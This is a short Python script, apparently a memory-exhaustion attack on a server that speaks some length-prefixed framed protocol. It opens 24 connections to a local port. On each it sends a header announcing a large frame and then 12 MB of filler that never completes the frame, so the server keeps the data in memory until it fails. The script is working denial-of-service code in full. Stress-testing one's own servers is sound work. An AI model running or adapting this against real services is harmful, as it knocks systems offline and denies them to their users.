"""memory_eater.py PORT: makes a server keep 12 MB for each of 24 connections, by frames that never end."""

import socket
import sys

connections = []
try:
    for _ in range(24):
        connections.append(socket.create_connection(("127.0.0.1", int(sys.argv[1]))))
        connections[-1].sendall(bytes([0, 0xF0, 0, 0, 0, 0, 1, 0]) + b" " * (12 << 20))
except OSError as end:
    print("the server has gone:", end)
